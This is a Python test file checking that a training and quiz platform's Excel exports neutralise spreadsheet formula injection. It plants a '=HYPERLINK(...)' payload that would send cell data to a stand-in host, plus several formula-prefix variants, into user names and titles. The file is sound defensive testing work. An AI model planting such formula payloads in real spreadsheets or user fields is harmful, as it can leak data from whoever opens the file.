"""No export holds a formula: names and texts like ``=HYPERLINK(…)`` come out as readable text."""

from __future__ import annotations

import io
from urllib.parse import quote

from openpyxl import load_workbook
from sqlalchemy import select

from casestudies.exercises.models import Exercise
from lianbing.accounts.models import User
from lianbing.campaign.models import Campaign
from lianbing.errors import Refused
from lianbing.extensions import db
from lianbing.files.excel import xlsx_bytes, xlsx_table
from lianbing.ledger.models import ScoreEntry
from lianbing.rankings import nominations
from lianbing.rankings.models import Nomination
from lianbing.web import XLSX, download
from quizzes import exporters, importers
from quizzes.models import Bank, Question
from quizzes.play.models import Quiz
from quizzes.services import to_data
from training.lectures.models import Lecture

EVIL = '=HYPERLINK("http://x"&A2,"x")'
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"]


def _formulas(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{c.coordinate}={c.value!r}"
        for sheet in book
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def _texts(data: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(data))
    return {str(c.value) for s in book for row in s.iter_rows() for c in row if c.value}


def test_the_writer_keeps_every_risky_start_as_quoted_text():
    data = xlsx_bytes({"表": [["名称"], *([s] for s in STARTS), [-3], [EVIL]]})
    book = load_workbook(io.BytesIO(data))
    cells = [row[0] for row in book["表"].iter_rows(min_row=2)]
    assert [c.value for c in cells] == [*STARTS, -3, EVIL]  # the text itself is unchanged
    assert [c.data_type for c in cells] == ["s"] * len(STARTS) + ["n", "s"]
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str))
    assert not _formulas(data)


def test_the_table_writer_reads_back_like_the_cell_writer():
    table = [["名称", "分"], *([s, i] for i, s in enumerate(STARTS)), [EVIL, 1.5], ["<a&b>", None]]
    table.append(["普通", True])
    data = xlsx_table("排名<&>", table)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["排名<&>"]
    got = [[c.value for c in row] for row in book.active.iter_rows()]
    assert got == [list(r) for r in table]
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert [c.quotePrefix for c in cells] == [True] * (len(STARTS) + 1) + [False, False]
    assert not _formulas(data)
    old = load_workbook(io.BytesIO(xlsx_bytes({"t": table}))).active
    assert [[c.value for c in row] for row in old.iter_rows()] == got


def _plant():
    """Every user-written text the exports carry, set to a formula."""
    for i, user in enumerate(db.session.scalars(select(User).order_by(User.id))):
        user.display_name = f"{STARTS[i % len(STARTS)]}{EVIL}"[:60]
    for q in db.session.scalars(select(Question)):
        q.stem = EVIL
        q.explanation = "@" + EVIL
    for model in (Quiz, Exercise, Lecture):
        for row in db.session.scalars(select(model)):
            row.title = "+" + EVIL
    for entry in db.session.scalars(select(ScoreEntry)):
        entry.title = "-" + EVIL
    db.session.commit()


def _nominate() -> None:
    """An accepted nomination and its recommendation (the demo has none)."""
    campaign = db.session.scalar(select(Campaign).where(Campaign.is_active.is_(True)))
    admin = db.session.scalar(select(User).where(User.username == "admin_441402"))
    city = db.session.scalar(select(User).where(User.username == "city_admin"))
    officers = db.session.scalars(
        select(User).where(User.bureau_id == admin.bureau_id, User.role == "officer")
    )
    for officer in officers:
        try:
            nom = nominations.nominate(campaign, officer.id, EVIL, admin)
        except Refused:
            continue
        nominations.decide(nom, True, city)
        nominations.recommend(campaign.id, "county_individual", city, nomination_id=nom.id)
        db.session.commit()
        return


def _first(model):
    return db.session.scalar(select(model.id).order_by(model.id))


def _export_urls() -> list[str]:
    ids = {
        "lecture": _first(Lecture),
        "bank": _first(Bank),
        "quiz": _first(Quiz),
        "exercise": _first(Exercise),
        "nomination": _first(Nomination),
    }
    missing = [k for k, v in ids.items() if v is None]
    assert not missing, f"the demo has no {missing} to export"
    return [
        "/roster/export.xlsx",
        "/scores/rankings.xlsx",
        "/scores/recommendations.xlsx",
        f"/scores/nominations/{ids['nomination']}/record.xlsx",
        "/training/dashboard.xlsx",
        f"/training/lectures/{ids['lecture']}/attendance.xlsx",
        f"/quizzes/banks/{ids['bank']}/export/xlsx",
        f"/quizzes/manage/{ids['quiz']}/stats.xlsx",
        f"/casestudies/exercises/{ids['exercise']}/grades.xlsx",
    ]


def _export(client, url: str):
    """The file an export URL gives: a download, or (the whole-city ranking, a background job
    started by a POST) the job's result."""
    if url != "/scores/rankings.xlsx":
        return client.get(url)
    started = client.post(url)
    assert started.status_code == 303, started.status_code
    return client.get(started.headers["Location"] + "/download")


def test_every_export_writes_planted_formulas_as_text(flask_demo, client, session_login):
    _plant()
    _nominate()
    session_login(client, "city_admin")
    wrong, seen = [], 0
    for url in _export_urls():
        r = _export(client, url)
        assert r.status_code == 200, f"{url}: {r.status_code}"
        formulas = _formulas(r.data)
        if formulas:
            wrong.append(f"{url}: {formulas[:3]}")
        seen += any(EVIL in t for t in _texts(r.data))
    assert not wrong, "\n".join(wrong)
    assert seen >= 8, "the planted text should be readable in the exports"


def test_bank_export_with_formula_like_text_imports_back_unchanged(flask_demo):
    bank = db.session.scalar(select(Bank).order_by(Bank.id))
    questions = db.session.scalars(select(Question).where(Question.bank_id == bank.id)).all()
    for i, q in enumerate(questions):
        q.stem = f"{STARTS[i % len(STARTS)].strip()}{EVIL}"
    db.session.commit()
    export = exporters.EXPORTERS["xlsx"].export([to_data(q) for q in questions])
    assert not _formulas(export.data)
    _, parsed = importers.parse_file("bank.xlsx", export.data)
    stems = sorted(item.data.stem for item in parsed.items if item.data)
    assert stems == sorted(q.stem for q in questions)


def test_a_download_named_from_user_text_keeps_no_control_character(app):
    """An officer's name with a line break (a hostile roster) names a candidate record: the
    download goes out, its name's control characters as spaces."""
    with app.test_request_context():
        response = download(b"x", "张三\r\n=1+1\t候选人.xlsx", XLSX)
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == (
        "attachment; filename*=UTF-8''" + quote("张三  =1+1 候选人.xlsx")
    )
